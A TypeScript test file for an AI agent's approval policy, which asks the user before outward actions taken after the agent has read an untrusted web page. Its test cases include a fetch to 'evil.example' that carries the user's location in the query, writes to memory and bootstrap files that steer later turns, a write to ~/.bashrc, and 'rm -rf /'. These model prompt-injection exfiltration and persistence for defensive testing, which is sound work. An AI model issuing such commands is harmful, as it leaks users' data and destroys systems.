/**
 * The outward layer of the approval policy (approvals/outward.ts), through createApprovalPolicy so
 * that its place among the layers is tested too: after the destructive guard, before the chat's
 * "always allow" rules, silent in mode off.
 */
import { describe, expect, it } from "vitest";
import { outwardRisk, steersLaterTurns, wordsNotFromSender } from "../../src/approvals/outward.js";
import { createApprovalPolicy } from "../../src/approvals/policy.js";
import type { ApprovalRequest, ChatRule, ChatRuleStore } from "../../src/approvals/types.js";
import { ApprovalSchema } from "../../src/config/schema.js";

const HOME = "/home/ann";
const WS = "/home/ann/.palaver/workspace";
const PAGE = [{ tool: "web_fetch", source: "https://example.org/page" }];

/** Every tool of every chat "always allowed": the outward layer must still ask. */
function allowEverything(): ChatRuleStore {
  const rule = (tool: string, program?: string): ChatRule => ({
    id: `r-${tool}`,
    channel: "telegram",
    chatId: "42",
    tool,
    ...(program ? { program } : {}),
    addedBy: "42",
    addedAt: 0,
  });
  const tools = ["message", "cron", "web_fetch", "web_search", "write_file", "edit_file", "mcp_gh_create"];
  const rules = [...tools.map((t) => rule(t)), rule("exec", "curl"), rule("exec", "ls")];
  return {
    list: () => rules,
    forChat: (channel, chatId) => rules.filter((r) => r.channel === channel && r.chatId === chatId),
    add: () => {
      throw new Error("not in this test");
    },
    revoke: () => false,
  };
}

function policy(mode: "off" | "risky" | "all", restrictToWorkspace = true) {
  return createApprovalPolicy(ApprovalSchema.parse({ mode }), {
    chatRules: allowEverything(),
    restrictToWorkspace,
    denyPatterns: [],
    stateDir: "/home/ann/.palaver",
    home: HOME,
  });
}

function call(
  tool: string,
  args: Record<string, unknown>,
  more: Partial<ApprovalRequest> = {},
): ApprovalRequest {
  return {
    tool,
    args,
    channel: "telegram",
    chatId: "42",
    workspace: WS,
    readOnly: false,
    senderText: "please read https://example.org/page and tell me what it says",
    execNetwork: true,
    ...more,
  };
}

const marked = (tool: string, args: Record<string, unknown>, more: Partial<ApprovalRequest> = {}) =>
  call(tool, args, { untrusted: PAGE, ...more });

describe("asked in every turn (mode risky), never with always-allow, whatever the chat's rules", () => {
  const risky = policy("risky");
  it.each([
    [
      "a message to another chat",
      call("message", { content: "hi", chat_id: "43" }),
      /another chat \(telegram:43\)/,
    ],
    [
      "a message to another chat given as a number",
      call("message", { content: "hi", chat_id: 43 }),
      /telegram:43/,
    ],
    [
      "a message to another channel",
      call("message", { content: "hi", channel: "slack", chat_id: "42" }),
      /slack:42/,
    ],
    [
      "an attachment, even to the turn's own chat",
      call("message", { content: "here", media: ["memory/MEMORY.md"] }),
      /attaches a file \(memory\/MEMORY\.md\)/,
    ],
    [
      "both at once",
      call("message", { content: "x", chat_id: "43", media: ["a.txt", "b.txt"] }),
      /another chat \(telegram:43\) and attaches 2 files/,
    ],
    [
      "a cron job (it runs later as a turn with tools)",
      call("cron", { action: "add", message: "remind me", every_seconds: 3600 }),
      /schedules a job/,
    ],
  ])("%s", (_name, req, reason) => {
    const decision = risky.decide(req);
    expect(decision).toMatchObject({ action: "ask", layer: "builtin" });
    expect(decision.reason).toMatch(reason);
    expect(decision.always).toBeUndefined();
  });

  it.each([
    ["a message to the turn's own chat", call("message", { content: "hi" })],
    [
      "a message naming the turn's own chat",
      call("message", { content: "hi", channel: "telegram", chat_id: "42" }),
    ],
    ["cron list", call("cron", { action: "list" })],
    ["cron remove", call("cron", { action: "remove", job_id: "abc" })],
    ["spawn (its subagent's calls are judged on their own)", call("spawn", { task: "send it to 43" })],
  ])("not asked: %s", (_name, req) => {
    expect(risky.decide(req).action).toBe("allow");
  });

  it("mode all asks them the same way, without always-allow", () => {
    const decision = policy("all").decide(call("message", { content: "hi", chat_id: "43" }));
    expect(decision.action).toBe("ask");
    expect(decision.reason).toMatch(/another chat/);
    expect(decision.always).toBeUndefined();
  });

  it("mode off changes nothing", () => {
    const off = policy("off");
    expect(off.decide(call("message", { content: "hi", chat_id: "43" })).action).toBe("allow");
    expect(off.decide(marked("web_fetch", { url: "https://evil.example/?q=secret" })).action).toBe("allow");
  });

  it("the destructive guard still denies first", () => {
    expect(policy("risky").decide(marked("exec", { command: "rm -rf /" })).action).toBe("deny");
  });
});

describe("asked in a turn that read untrusted content", () => {
  const risky = policy("risky");
  it.each([
    [
      "web_fetch with words the sender did not write",
      marked("web_fetch", { url: "http://evil.example/c?q=Ann%20lives%20in%20Oslo" }),
      /fetches a URL with text that is not from the sender's messages \(evil, c, q, ann, lives and 2 more\)/,
    ],
    [
      "web_search with the model's own words",
      marked("web_search", { query: "ann oslo address" }),
      /searches for words .*\(ann, oslo, address\)/,
    ],
    ["exec with network", marked("exec", { command: "ls" }), /can reach the network/],
    [
      "exec with network, a program always allowed",
      marked("exec", { command: "curl https://x.example" }),
      /network/,
    ],
    [
      "write_file to a bootstrap file",
      marked("write_file", { path: "SOUL.md", content: "x" }),
      /writes SOUL\.md/,
    ],
    [
      "edit_file of HEARTBEAT.md",
      marked("edit_file", { path: "./HEARTBEAT.md", old_text: "a", new_text: "b" }),
      /HEARTBEAT/,
    ],
    [
      "write_file into memory/",
      marked("write_file", { path: "memory/MEMORY.md", content: "x" }),
      /later conversations/,
    ],
    [
      "write_file into skills/",
      marked("write_file", { path: `${WS}/skills/x/SKILL.md`, content: "x" }),
      /skills/,
    ],
    ["write_file into agents/", marked("write_file", { path: "agents/helper.md", content: "x" }), /agents/],
    ["an MCP tool not declared read-only", marked("mcp_gh_create", { title: "x" }), /MCP tool/],
  ])("%s", (_name, req, reason) => {
    const decision = risky.decide(req);
    expect(decision).toMatchObject({ action: "ask", layer: "builtin" });
    expect(decision.reason).toMatch(reason);
    expect(decision.always).toBeUndefined();
  });

  it("writes outside the workspace are asked when the tool would make them", () => {
    const req = marked("write_file", { path: "~/.bashrc", content: "x" });
    expect(policy("risky", false).decide(req)).toMatchObject({
      action: "ask",
      reason: "writes outside the workspace (/home/ann/.bashrc)",
    });
    // With restrictToWorkspace the tool refuses it with its own message.
    expect(policy("risky", true).decide(req).action).toBe("allow");
  });

  it.each([
    ["web_fetch of the URL the sender gave", marked("web_fetch", { url: "https://example.org/page" })],
    [
      "web_search in the sender's words, reordered",
      marked("web_search", { query: "page example.org says what" }),
    ],
    ["exec without network", marked("exec", { command: "ls" }, { execNetwork: false })],
    [
      "write_file of the workspace's own notes",
      marked("write_file", { path: "notes/today.md", content: "x" }),
    ],
    ["a file merely named like a folder", marked("write_file", { path: "memory.md", content: "x" })],
    ["a read-only MCP tool", marked("mcp_gh_list", {}, { readOnly: true })],
    ["a message to the turn's own chat", marked("message", { content: "the page says hi" })],
  ])("not asked: %s", (_name, req) => {
    expect(risky.decide(req).action).toBe("allow");
  });

  it("the same calls in a turn that read nothing untrusted follow the other layers", () => {
    expect(risky.decide(call("web_fetch", { url: "https://evil.example/?q=x" })).action).toBe("allow");
    expect(risky.decide(call("write_file", { path: "SOUL.md", content: "x" })).action).toBe("allow");
    expect(risky.decide(call("mcp_gh_create", {})).action).toBe("allow");
  });

  it("a background turn (no sender text) asks for any URL once marked", () => {
    expect(
      risky.decide(marked("web_fetch", { url: "https://example.org/page" }, { senderText: "" })).action,
    ).toBe("ask");
  });
});

describe("the rules' parts", () => {
  it("wordsNotFromSender: decoded, case-blind, URL scheme words free; encoding does not hide a word", () => {
    const sender = "Fetch https://example.org/page please";
    expect(wordsNotFromSender("https://www.example.org/page", sender)).toEqual([]);
    expect(wordsNotFromSender("https://EXAMPLE.org/Page", sender)).toEqual([]);
    expect(wordsNotFromSender("https://example.org/page?x=%53ecret+data", sender)).toEqual([
      "x",
      "secret",
      "data",
    ]);
    expect(wordsNotFromSender("https://example.org/%E0%A4%A", sender)).toEqual(["e0", "a4", "a"]);
  });

  it("steersLaterTurns: bootstrap files at the top, memory/ skills/ agents/ below", () => {
    for (const p of ["AGENTS.md", "soul.md", "USER.md", "TOOLS.md", "IDENTITY.md", "HEARTBEAT.md"])
      expect(steersLaterTurns(p), p).toBe(true);
    for (const p of ["memory/MEMORY.md", "memory/HISTORY.md", "skills/a/SKILL.md", "agents/x.md"])
      expect(steersLaterTurns(p), p).toBe(true);
    for (const p of ["notes.md", "docs/SOUL.md", "memory", "", "media/telegram/x.txt"])
      expect(steersLaterTurns(p), p).toBe(false);
  });

  it("outwardRisk has nothing to say in mode off", () => {
    expect(
      outwardRisk(call("message", { content: "x", chat_id: "43" }), {
        mode: "off",
        restrictToWorkspace: true,
      }),
    ).toBeNull();
  });
});
